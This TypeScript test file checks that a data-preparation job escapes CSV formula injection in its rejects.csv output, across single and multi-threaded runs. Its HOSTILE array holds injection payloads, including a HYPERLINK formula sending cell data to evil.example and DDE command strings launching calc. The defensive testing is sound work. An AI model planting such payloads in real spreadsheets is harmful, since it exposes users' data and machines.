import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runPrepareJob } from '../../src-main/core/jobs/prepare/prepare-job';
import { runPrepare } from '../../src-main/core/jobs/prepare/run-prepare';
import { neutraliseCell, originalCell } from '../../src-main/core/jobs/prepare/spreadsheet-cells';
import { customerColumns, customerMapping, customerSchema, tempDir } from '../core/jobs/prepare/fixtures';

/**
 * rejects.csv is opened in spreadsheets: no cell of it may start as a formula would, and every
 * original value is recoverable through its `_escaped` column (issue 17, OWASP CSV injection).
 */

// (A cell starting with CR is read from a CSV file as one starting with LF, so CR is checked on its own below.)
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '\t=1+1',
  '=1+1\n2',
  '＝1+1',
  "'already quoted",
  'plain',
];
const DANGEROUS = /^[=+\-@\t\r＝＋－＠]/;

let work: { dir: string; cleanup: () => Promise<void> };
let input: string;
let rows: string[][];

beforeAll(async () => {
  work = await tempDir();
  // Every row is rejected (a birth date that is not one), with a hostile value in a different column each time.
  rows = Array.from({ length: 400 }, (_, i) =>
    customerColumns.map((c, k) => (c === 'birth_date' ? 'not a date' : c === 'customer_id' ? `c${i}` : (HOSTILE[(i + k) % HOSTILE.length] as string))),
  );
  input = path.join(work.dir, 'hostile.csv');
  await writeFile(input, `${Papa.unparse([customerColumns, ...rows], { newline: '\n' })}\n`);
});

afterAll(async () => {
  await work.cleanup();
});

async function checkRejects(dir: string): Promise<void> {
  const parsed = Papa.parse<string[]>(await readFile(path.join(dir, 'rejects.csv'), 'utf8'), { skipEmptyLines: true }).data;
  const [header, ...body] = parsed;
  expect(header?.slice(0, 4)).toEqual(['_row', '_line', '_reasons', '_escaped']);
  expect(header?.slice(4)).toEqual(customerColumns);
  expect(body).toHaveLength(rows.length);
  for (const [index, cells] of body.entries()) {
    for (const cell of cells) expect(cell).not.toMatch(DANGEROUS);
    const escaped = new Set(cells[3] === '' ? [] : (JSON.parse(cells[3] as string) as number[]));
    const originals = cells.slice(4).map((cell, i) => originalCell(cell, escaped.has(i + 5)));
    expect(originals).toEqual(rows[index]);
  }
}

describe('rejects.csv against CSV injection', () => {
  it('escapes each character OWASP lists, and only those', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'])
      expect(neutraliseCell(`${start}1`)).toEqual({ text: `'${start}1`, escaped: true });
    for (const safe of ['1', 'a=b', ' =1', "'=1", '', '\n=1']) expect(neutraliseCell(safe)).toEqual({ text: safe, escaped: false });
    expect(originalCell("''=1", true)).toBe("'=1");
    expect(originalCell("'kept", false)).toBe("'kept");
  });

  it('escapes every cell that would start a formula and lists it in _escaped, so the original comes back', async () => {
    const out = path.join(work.dir, 'one');
    const summary = await runPrepare({ inputPath: input, schema: customerSchema.schema, mapping: customerMapping, outDir: out });
    expect(summary.rowsRejected).toBe(rows.length);
    await checkRejects(out);
  }, 60_000);

  it('the same when the job is split over threads and the rejects are merged', async () => {
    const out = path.join(work.dir, 'split');
    const summary = await runPrepareJob(
      { inputPath: input, schema: customerSchema.schema, mapping: customerMapping, outDir: out },
      { parallelism: 2, minSegmentBytes: 8 * 1024 },
    );
    expect(summary.rowsRejected).toBe(rows.length);
    await checkRejects(out);
  }, 120_000);
});
